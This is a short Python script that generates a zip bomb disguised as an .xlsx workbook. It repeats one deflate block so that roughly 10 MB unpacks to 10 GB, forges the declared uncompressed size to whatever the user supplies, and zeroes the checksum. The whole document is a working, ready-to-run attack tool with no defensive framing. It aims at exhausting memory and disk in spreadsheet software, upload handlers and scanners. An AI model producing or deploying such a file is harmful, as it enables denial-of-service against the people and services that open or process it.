#!/usr/bin/env python3
"""Writes a workbook of some 10 MB that unpacks to 10 GB.

  make_zip_bomb.py FILE.xlsx CLAIMED_BYTES      what the archive says of the sheet's size, true or not
"""

import sys
import zipfile
import zlib

WORKBOOK = """<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<sheets><sheet name="Hoja1" sheetId="1" r:id="rId1"/></sheets></workbook>"""
RELATIONS = """<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Target="worksheets/sheet1.xml"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>"""
TYPES = """<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/xl/workbook.xml"
 ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>"""
PACKAGE = """<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Target="xl/workbook.xml"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>"""
HEAD = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
ROW = b'<row><c t="inlineStr"><is><t>' + b"A" * 1_000_000 + b"</t></is></c></row>"
ROWS = 10_000


def deflated_sheet():
    """The sheet as a raw deflate stream; one packed row is repeated, so that 10 GB need not be packed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(HEAD) + packer.flush(zlib.Z_FULL_FLUSH)
    row = packer.compress(ROW) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(b"</sheetData></worksheet>") + packer.flush(zlib.Z_FINISH)
    return head + row * ROWS + tail


def main(path, claimed):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as book:
        book.writestr("[Content_Types].xml", TYPES)
        book.writestr("_rels/.rels", PACKAGE)
        book.writestr("xl/workbook.xml", WORKBOOK)
        book.writestr("xl/_rels/workbook.xml.rels", RELATIONS)
        book.writestr("xl/worksheets/sheet1.xml", deflated_sheet())
        sheet = book.getinfo("xl/worksheets/sheet1.xml")
        sheet.compress_type, sheet.file_size, sheet.CRC = zipfile.ZIP_DEFLATED, int(claimed), 0


if __name__ == "__main__":
    main(*sys.argv[1:])
